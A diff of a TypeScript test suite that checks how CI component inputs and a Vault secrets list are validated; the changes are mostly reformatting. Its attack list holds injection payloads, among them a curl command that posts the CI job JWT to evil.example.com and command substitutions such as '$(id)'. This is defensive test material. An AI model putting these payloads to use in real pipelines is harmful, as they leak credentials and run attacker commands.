@@ -8,7 +8,7 @@ import { InputError, inputValues, splitComponent } from "./interpolate.ts";
 const DANGEROUS = /['"`$\\;&|<>(){}*?!\u0000-\u0009\u000b-\u001f\u007f]|\$\[\[/;
 
 const ATTACKS = [
-  "'; curl https://evil.example.com -d \"$CI_JOB_JWT\" #",
+  '\'; curl https://evil.example.com -d "$CI_JOB_JWT" #',
   '" == "" || "1" == "1',
   "$(id)",
   "`id`",
@@ -58,7 +58,10 @@ describe.each(COMPONENTS)("%s", (name) => {
       for (const value of [attack, `${good}${attack}`, `${attack}${good}`, `${good}\n${attack}`]) {
         if (!accepts(input, value)) continue;
         // Accepted is only what cannot do anything: the one variable of ours, names, and paths below a mount.
-        expect(DANGEROUS.test(value.replace(/^\$CI_VAULT_AUDIENCE$/, "")), `${input}: ${JSON.stringify(value)}`).toBe(false);
+        expect(
+          DANGEROUS.test(value.replace(/^\$CI_VAULT_AUDIENCE$/, "")),
+          `${input}: ${JSON.stringify(value)}`,
+        ).toBe(false);
         // An audience is only ever compared.
         if (input !== "audience") expect(value, input).not.toMatch(/(?:^|[/=])\.\.(?:\/|#|$)|^-|\s-/);
         if (input !== "secrets") expect(value, input).not.toContain("\n");
@@ -101,10 +104,24 @@ describe("the list of secrets", () => {
     expect(take(secrets)).not.toThrow();
   });
 
-  it.each(["", " ", "A", "A=", "A=secret", "A=secret#x", "A=secret/x", "A=secret/x#", "=secret/x#y", "1A=secret/x#y", "A:exec=secret/x#y", "A:json=secret/x#y", "A=/secret/x#y", "A=secret/x/#y", "A=a//b//c#d", "A=secret/x#y,B=secret/x#z"])(
-    "refuses %j",
-    (secrets) => {
-      expect(take(secrets)).toThrow("`secrets` input: provided value does not match required RegEx pattern");
-    },
-  );
+  it.each([
+    "",
+    " ",
+    "A",
+    "A=",
+    "A=secret",
+    "A=secret#x",
+    "A=secret/x",
+    "A=secret/x#",
+    "=secret/x#y",
+    "1A=secret/x#y",
+    "A:exec=secret/x#y",
+    "A:json=secret/x#y",
+    "A=/secret/x#y",
+    "A=secret/x/#y",
+    "A=a//b//c#d",
+    "A=secret/x#y,B=secret/x#z",
+  ])("refuses %j", (secrets) => {
+    expect(take(secrets)).toThrow("`secrets` input: provided value does not match required RegEx pattern");
+  });
 });
